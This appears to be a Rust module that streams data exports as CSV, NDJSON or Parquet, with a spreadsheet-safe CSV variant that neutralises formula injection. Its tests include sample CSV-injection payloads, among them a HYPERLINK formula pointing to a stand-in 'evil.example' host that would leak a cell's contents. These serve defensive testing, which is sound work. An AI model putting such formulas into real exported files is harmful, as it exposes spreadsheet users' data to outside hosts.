//! Writing rows as CSV, NDJSON or Parquet, a chunk at a time: rows go in,
//! finished bytes come out whenever enough have piled up, so an export of any
//! size is sent while it is produced.

use std::io::Write;
use std::sync::{Arc, Mutex};

use polars::prelude::*;

use super::cell::Cell;
use super::schema::{DECIMAL_PRECISION, DECIMAL_SCALE, Field, FieldType};
use super::source::{ExportError, RowSink};
use super::{Format, pandas};

/// An encoder whose output goes, a chunk at a time, into a channel (an HTTP body, say).
/// A closed channel means the reader went away, and stops the export; so does a channel
/// that takes nothing for [`ChunkSink::stall_after`] (a client that stopped reading).
pub struct ChunkSink {
    encoder: Box<dyn Encoder>,
    sender: tokio::sync::mpsc::Sender<Vec<u8>>,
    stall: Option<std::time::Duration>,
    first_page: Option<tokio::sync::oneshot::Sender<()>>,
}

impl ChunkSink {
    /// Encodes with `encoder` into `sender`.
    pub fn new(encoder: Box<dyn Encoder>, sender: tokio::sync::mpsc::Sender<Vec<u8>>) -> Self {
        Self { encoder, sender, stall: None, first_page: None }
    }

    /// Gives up with [`ExportError::Stalled`] when a chunk waits longer than `limit` to be taken.
    pub fn stall_after(mut self, limit: std::time::Duration) -> Self {
        self.stall = Some(limit);
        self
    }

    /// Says on `ready` when the source has read its first page (see [`RowSink::page_read`]).
    pub fn on_first_page(mut self, ready: tokio::sync::oneshot::Sender<()>) -> Self {
        self.first_page = Some(ready);
        self
    }

    async fn send(&mut self) -> Result<(), ExportError> {
        let bytes = self.encoder.take();
        if bytes.is_empty() {
            return Ok(());
        }
        let sent = self.sender.send(bytes);
        match self.stall {
            Some(limit) => match tokio::time::timeout(limit, sent).await {
                Ok(result) => result.map_err(|_| ExportError::Disconnected),
                Err(_) => Err(ExportError::Stalled(limit)),
            },
            None => sent.await.map_err(|_| ExportError::Disconnected),
        }
    }

    /// Ends the output and sends what remains.
    pub async fn finish(mut self) -> Result<(), ExportError> {
        self.encoder.finish()?;
        self.send().await
    }
}

impl RowSink for ChunkSink {
    async fn push(&mut self, row: Vec<Cell>) -> Result<(), ExportError> {
        self.encoder.row(&row)?;
        if self.encoder.pending() >= CHUNK {
            self.send().await?;
        }
        Ok(())
    }

    fn page_read(&mut self) {
        if let Some(ready) = self.first_page.take() {
            let _ = ready.send(());
        }
    }
}

/// Bytes worth sending at once.
pub const CHUNK: usize = 64 * 1024;
/// Rows per Parquet row group.
const ROW_GROUP: usize = 64 * 1024;

/// A streaming encoder.
pub trait Encoder: Send {
    /// Adds one row.
    fn row(&mut self, row: &[Cell]) -> Result<(), ExportError>;
    /// Bytes ready to send (may be empty).
    fn take(&mut self) -> Vec<u8>;
    /// How many bytes are waiting.
    fn pending(&self) -> usize;
    /// Ends the output; what remains comes from [`Encoder::take`].
    fn finish(&mut self) -> Result<(), ExportError>;
}

/// An encoder of `format` for rows with `fields`; `bom` starts a CSV with a byte-order mark.
pub fn encoder(format: Format, fields: Vec<Field>, bom: bool) -> Result<Box<dyn Encoder>, ExportError> {
    Ok(match format {
        Format::Csv => Box::new(Csv::new(&fields, bom)?),
        Format::Ndjson => Box::new(Ndjson { names: fields.iter().map(|f| f.name).collect(), out: Vec::new() }),
        Format::Parquet => Box::new(Parquet::new(fields)?),
    })
}

fn encode_error(e: impl std::fmt::Display) -> ExportError {
    ExportError::Encode(e.to_string())
}

/// RFC 4180 CSV with a header row; every field that needs it quoted.
struct Csv {
    writer: csv::Writer<Shared>,
    out: Shared,
    buffer: Vec<String>,
    /// The "CSV for Excel" variant: text that a spreadsheet would run as a formula is defused.
    for_spreadsheets: bool,
}

/// Whether a spreadsheet would read `text` as a formula (or, after a tab or carriage
/// return, as the start of one): OWASP's list for CSV injection.
fn starts_like_formula(text: &str) -> bool {
    text.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// A text cell as the spreadsheet variant writes it: a leading apostrophe, as OWASP
/// recommends, makes a spreadsheet show the text instead of evaluating it. Only text
/// cells: numbers, dates and decimals are never formulas, and stay as they are.
fn for_spreadsheet(cell: &Cell) -> String {
    match cell {
        Cell::Text(text) if starts_like_formula(text) => format!("'{text}"),
        other => other.to_text(),
    }
}

impl Csv {
    fn new(fields: &[Field], bom: bool) -> Result<Self, ExportError> {
        let mut out = Shared::default();
        if bom {
            out.write_all("\u{feff}".as_bytes()).map_err(encode_error)?;
        }
        let mut writer = csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).from_writer(out.clone());
        writer.write_record(fields.iter().map(|f| f.name)).map_err(encode_error)?;
        Ok(Self { writer, out, buffer: Vec::new(), for_spreadsheets: bom })
    }
}

impl Encoder for Csv {
    fn row(&mut self, row: &[Cell]) -> Result<(), ExportError> {
        self.buffer.clear();
        if self.for_spreadsheets {
            self.buffer.extend(row.iter().map(for_spreadsheet));
        } else {
            // The plain CSV is byte-exact: what was filed, unaltered.
            self.buffer.extend(row.iter().map(Cell::to_text));
        }
        self.writer.write_record(&self.buffer).map_err(encode_error)
    }

    fn take(&mut self) -> Vec<u8> {
        // The csv writer keeps a small internal buffer; flushing moves it out.
        let _ = self.writer.flush();
        self.out.take()
    }

    fn pending(&self) -> usize {
        // Plus up to the csv writer's own 8 KiB buffer, which is fine for deciding when to send.
        self.out.len()
    }

    fn finish(&mut self) -> Result<(), ExportError> {
        self.writer.flush().map_err(encode_error)
    }
}

/// One JSON object per line, keys in column order, decimals as strings.
struct Ndjson {
    names: Vec<&'static str>,
    out: Vec<u8>,
}

impl Encoder for Ndjson {
    fn row(&mut self, row: &[Cell]) -> Result<(), ExportError> {
        let mut object = serde_json::Map::with_capacity(row.len());
        for (name, cell) in self.names.iter().zip(row) {
            object.insert((*name).to_owned(), cell.to_json());
        }
        serde_json::to_writer(&mut self.out, &object).map_err(encode_error)?;
        self.out.push(b'\n');
        Ok(())
    }

    fn take(&mut self) -> Vec<u8> {
        std::mem::take(&mut self.out)
    }

    fn pending(&self) -> usize {
        self.out.len()
    }

    fn finish(&mut self) -> Result<(), ExportError> {
        Ok(())
    }
}

/// A `Write` whose bytes the Parquet writer leaves for [`Encoder::take`].
#[derive(Clone, Default)]
struct Shared(Arc<Mutex<Vec<u8>>>);

impl Shared {
    fn take(&self) -> Vec<u8> {
        self.0.lock().map(|mut b| std::mem::take(&mut *b)).unwrap_or_default()
    }

    fn len(&self) -> usize {
        self.0.lock().map_or(0, |b| b.len())
    }
}

impl Write for Shared {
    fn write(&mut self, bytes: &[u8]) -> std::io::Result<usize> {
        self.0.lock().map_err(|_| std::io::Error::other("poisoned"))?.extend_from_slice(bytes);
        Ok(bytes.len())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

/// Parquet with typed columns, one row group per [`ROW_GROUP`] rows, described for pandas
/// (see [`pandas`]) so that its readers keep nulls as nulls.
struct Parquet {
    fields: Vec<Field>,
    rows: Vec<Vec<Cell>>,
    writer: polars::io::parquet::write::BatchedWriter<Shared>,
    out: Shared,
}

/// The polars type of a column.
pub fn dtype(kind: FieldType) -> DataType {
    match kind {
        FieldType::String => DataType::String,
        FieldType::Integer => DataType::Int64,
        FieldType::Number => DataType::Float64,
        FieldType::Decimal => DataType::Decimal(DECIMAL_PRECISION, DECIMAL_SCALE as usize),
        FieldType::Date => DataType::Date,
        FieldType::DateTime => DataType::Datetime(TimeUnit::Microseconds, Some(TimeZone::UTC)),
        FieldType::Boolean => DataType::Boolean,
    }
}

impl Parquet {
    fn new(fields: Vec<Field>) -> Result<Self, ExportError> {
        let schema: Schema = fields.iter().map(Field::polars).collect();
        let out = Shared::default();
        let writer = ParquetWriter::new(out.clone())
            .with_compression(ParquetCompression::Zstd(None))
            .with_key_value_metadata(Some(pandas::key_value_metadata(&schema, &fields)?))
            .batched(&schema)
            .map_err(encode_error)?;
        Ok(Self { fields, rows: Vec::with_capacity(ROW_GROUP), writer, out })
    }

    fn flush_rows(&mut self) -> Result<(), ExportError> {
        if self.rows.is_empty() {
            return Ok(());
        }
        let frame = frame(&self.fields, &self.rows)?;
        self.rows.clear();
        self.writer.write_batch(&frame).map_err(encode_error)
    }
}

impl Field {
    fn polars(&self) -> polars::prelude::Field {
        polars::prelude::Field::new(self.name.into(), dtype(self.kind))
    }
}

/// Builds a typed frame from rows (one batch).
pub fn frame(fields: &[Field], rows: &[Vec<Cell>]) -> Result<DataFrame, ExportError> {
    let mut columns = Vec::with_capacity(fields.len());
    for (i, field) in fields.iter().enumerate() {
        let cells = rows.iter().map(|r| &r[i]);
        let name: PlSmallStr = field.name.into();
        let mismatch = |cell: &Cell| ExportError::Encode(format!("column {}: unexpected value {cell:?}", field.name));
        let series = match field.kind {
            FieldType::String => {
                let values: Vec<Option<String>> = cells
                    .map(|c| match c {
                        Cell::Null => Ok(None),
                        other => Ok(Some(other.to_text())),
                    })
                    .collect::<Result<_, ExportError>>()?;
                Series::new(name, values)
            }
            FieldType::Integer => {
                let values: Vec<Option<i64>> = cells
                    .map(|c| match c {
                        Cell::Null => Ok(None),
                        Cell::Int(v) => Ok(Some(*v)),
                        other => Err(mismatch(other)),
                    })
                    .collect::<Result<_, _>>()?;
                Series::new(name, values)
            }
            FieldType::Number => {
                let values: Vec<Option<f64>> = cells
                    .map(|c| match c {
                        Cell::Null => Ok(None),
                        Cell::Number(v) => Ok(Some(*v)),
                        Cell::Int(v) => Ok(Some(*v as f64)),
                        other => Err(mismatch(other)),
                    })
                    .collect::<Result<_, _>>()?;
                Series::new(name, values)
            }
            FieldType::Decimal => {
                let values: Vec<Option<i128>> = cells
                    .map(|c| match c {
                        Cell::Null => Ok(None),
                        Cell::Decimal(d, text) => scaled(*d).map(Some).ok_or_else(|| {
                            ExportError::Encode(format!(
                                "column {}: {text} has more than {DECIMAL_SCALE} decimal places",
                                field.name
                            ))
                        }),
                        other => Err(mismatch(other)),
                    })
                    .collect::<Result<_, _>>()?;
                Series::new(name, values)
                    .into_decimal(DECIMAL_PRECISION, DECIMAL_SCALE as usize)
                    .map_err(encode_error)?
            }
            FieldType::Date => {
                let epoch = chrono::NaiveDate::from_ymd_opt(1970, 1, 1).expect("epoch");
                let values: Vec<Option<i32>> = cells
                    .map(|c| match c {
                        Cell::Null => Ok(None),
                        Cell::Date(d) => Ok(Some((*d - epoch).num_days() as i32)),
                        other => Err(mismatch(other)),
                    })
                    .collect::<Result<_, _>>()?;
                Series::new(name, values).cast(&DataType::Date).map_err(encode_error)?
            }
            FieldType::DateTime => {
                let values: Vec<Option<i64>> = cells
                    .map(|c| match c {
                        Cell::Null => Ok(None),
                        Cell::DateTime(t) => Ok(Some(t.timestamp_micros())),
                        other => Err(mismatch(other)),
                    })
                    .collect::<Result<_, _>>()?;
                Series::new(name, values).cast(&dtype(FieldType::DateTime)).map_err(encode_error)?
            }
            FieldType::Boolean => {
                let values: Vec<Option<bool>> = cells
                    .map(|c| match c {
                        Cell::Null => Ok(None),
                        Cell::Bool(v) => Ok(Some(*v)),
                        other => Err(mismatch(other)),
                    })
                    .collect::<Result<_, _>>()?;
                Series::new(name, values)
            }
        };
        columns.push(series.into_column());
    }
    DataFrame::new_infer_height(columns).map_err(encode_error)
}

/// A decimal as an integer count of 10^-DECIMAL_SCALE, if it has no more places than that.
fn scaled(value: rust_decimal::Decimal) -> Option<i128> {
    if value.scale() > DECIMAL_SCALE {
        let exact = value.normalize();
        if exact.scale() > DECIMAL_SCALE {
            return None;
        }
        return scaled(exact);
    }
    let factor = 10i128.checked_pow(DECIMAL_SCALE - value.scale())?;
    value.mantissa().checked_mul(factor)
}

impl Encoder for Parquet {
    fn row(&mut self, row: &[Cell]) -> Result<(), ExportError> {
        self.rows.push(row.to_vec());
        if self.rows.len() >= ROW_GROUP {
            self.flush_rows()?;
        }
        Ok(())
    }

    fn take(&mut self) -> Vec<u8> {
        self.out.take()
    }

    fn pending(&self) -> usize {
        self.out.len()
    }

    fn finish(&mut self) -> Result<(), ExportError> {
        self.flush_rows()?;
        self.writer.finish().map_err(encode_error)?;
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::datasets::schema::price_fields;

    fn price_row(price: &str) -> Vec<Cell> {
        vec![
            Cell::Date("2026-01-01".parse().expect("date")),
            Cell::Text("h100".into()),
            Cell::Text("eu-de".into()),
            Cell::Text("on_demand".into()),
            Cell::Decimal(price.parse().expect("decimal"), price.into()),
            Cell::Text("EUR".into()),
            Cell::Null,
        ]
    }

    fn encode(format: Format, rows: &[Vec<Cell>], bom: bool) -> Vec<u8> {
        let mut e = encoder(format, price_fields(), bom).expect("encoder");
        let mut out = Vec::new();
        for row in rows {
            e.row(row).expect("row");
            out.extend(e.take());
        }
        e.finish().expect("finish");
        out.extend(e.take());
        out
    }

    /// A reader that takes nothing stops the export after the stall limit instead of
    /// keeping it (and its export slot) for ever.
    #[tokio::test]
    async fn a_chunk_nobody_takes_stops_the_export_after_the_stall_limit() {
        let (sender, _receiver) = tokio::sync::mpsc::channel(1);
        let encoder = encoder(Format::Ndjson, price_fields(), false).expect("encoder");
        let mut sink = ChunkSink::new(encoder, sender).stall_after(std::time::Duration::from_millis(100));
        let error = loop {
            if let Err(error) = sink.push(price_row("2.50")).await {
                break error;
            }
        };
        assert!(matches!(error, ExportError::Stalled(_)), "{error}");
    }

    #[test]
    fn csv_has_a_header_quotes_when_needed_and_keeps_money_as_filed() {
        let mut odd = price_row("2.50");
        odd[1] = Cell::Text("a \"quoted\", odd\nresource".into());
        let text = String::from_utf8(encode(Format::Csv, &[price_row("2.50"), odd], true)).expect("utf-8");
        assert!(text.starts_with("\u{feff}effective_date,resource,region,pricing_model,price_per_accelerator_hour,currency,cost_basis_per_accelerator_hour\r\n"));
        assert!(text.contains("2026-01-01,h100,eu-de,on_demand,2.50,EUR,\r\n"), "{text}");
        assert!(text.contains("\"a \"\"quoted\"\", odd\nresource\""), "{text}");
    }

    /// Issue 15: a counterparty `=HYPERLINK(...)` went verbatim into the file for Excel.
    #[test]
    fn the_spreadsheet_variant_defuses_formulas_and_the_plain_csv_stays_exact() {
        let formulas = ["=HYPERLINK(\"http://evil.example/?\"&A2,\"click\")", "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"];
        let rows: Vec<Vec<Cell>> = formulas
            .iter()
            .map(|text| {
                let mut row = price_row("2.50");
                row[1] = Cell::Text((*text).into());
                row
            })
            .collect();
        let read = |bytes: Vec<u8>| -> Vec<String> {
            let text = String::from_utf8(bytes).expect("utf-8");
            let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
            reader.records().map(|r| r.expect("record")[1].to_owned()).collect()
        };
        let excel = read(encode(Format::Csv, &rows, true));
        let plain = read(encode(Format::Csv, &rows, false));
        for ((text, defused), exact) in formulas.iter().zip(&excel).zip(&plain) {
            assert_eq!(defused, &format!("'{text}"));
            assert_eq!(exact, text, "the plain CSV is byte-exact");
        }
        // Numbers and decimals are never altered, even in the spreadsheet variant.
        let mut negative = price_row("2.50");
        negative[4] = Cell::Int(-5);
        let text = String::from_utf8(encode(Format::Csv, &[negative], true)).expect("utf-8");
        assert!(text.contains(",-5,"), "{text}");
    }

    #[test]
    fn ndjson_keeps_decimals_as_strings_and_nulls_as_null() {
        let text = String::from_utf8(encode(Format::Ndjson, &[price_row("2.490")], false)).expect("utf-8");
        let value: serde_json::Value = serde_json::from_str(text.trim_end()).expect("json");
        assert_eq!(value["price_per_accelerator_hour"], "2.490");
        assert_eq!(value["cost_basis_per_accelerator_hour"], serde_json::Value::Null);
        assert_eq!(value["effective_date"], "2026-01-01");
    }

    #[test]
    fn parquet_reads_back_with_the_declared_types_and_exact_money() {
        let bytes = encode(Format::Parquet, &[price_row("2.490"), price_row("1234567.123456789012")], false);
        let frame = ParquetReader::new(std::io::Cursor::new(bytes)).finish().expect("parquet");
        assert_eq!(frame.height(), 2);
        assert_eq!(frame.column("effective_date").expect("col").dtype(), &DataType::Date);
        assert_eq!(frame.column("price_per_accelerator_hour").expect("col").dtype(), &dtype(FieldType::Decimal));
        let money = frame.column("price_per_accelerator_hour").expect("col").cast(&DataType::String).expect("cast");
        let money = money.str().expect("str");
        assert_eq!(
            money.get(0).map(|s| s.parse::<rust_decimal::Decimal>().expect("dec")),
            Some("2.49".parse().expect("d"))
        );
        assert_eq!(
            money.get(1).map(|s| s.parse::<rust_decimal::Decimal>().expect("dec")),
            Some("1234567.123456789012".parse().expect("d"))
        );
        assert_eq!(frame.column("cost_basis_per_accelerator_hour").expect("col").null_count(), 2);
    }

    /// pandas reads a null integer as NaN unless the file says the column is a nullable `Int64`.
    #[test]
    fn parquet_tells_pandas_each_column_s_nullable_dtype() {
        let bytes = encode(Format::Parquet, &[price_row("2.490")], false);
        let mut reader = ParquetReader::new(std::io::Cursor::new(bytes));
        let metadata = reader.get_metadata().expect("metadata");
        let value = |key: &str| {
            metadata.key_value_metadata().iter().flatten().find(|kv| kv.key == key).and_then(|kv| kv.value.clone())
        };
        let description = pandas::metadata(&price_fields());
        assert_eq!(value(pandas::KEY), Some(description.clone()));
        // Also in the Arrow schema's own metadata, the only place pyarrow's `read_table` looks:
        // a flatbuffer whose strings are stored as they are.
        let arrow = value("ARROW:schema").expect("ARROW:schema");
        let arrow = base64::Engine::decode(&base64::engine::general_purpose::STANDARD, arrow).expect("base64");
        assert!(arrow.windows(description.len()).any(|w| w == description.as_bytes()), "not in ARROW:schema");
    }

    #[test]
    fn too_many_decimal_places_for_parquet_is_an_error_not_a_rounding() {
        assert_eq!(scaled("0.1234567890123".parse().expect("d")), None);
        assert_eq!(scaled("2.5000000000000".parse().expect("d")), Some(2_500_000_000_000));
    }
}
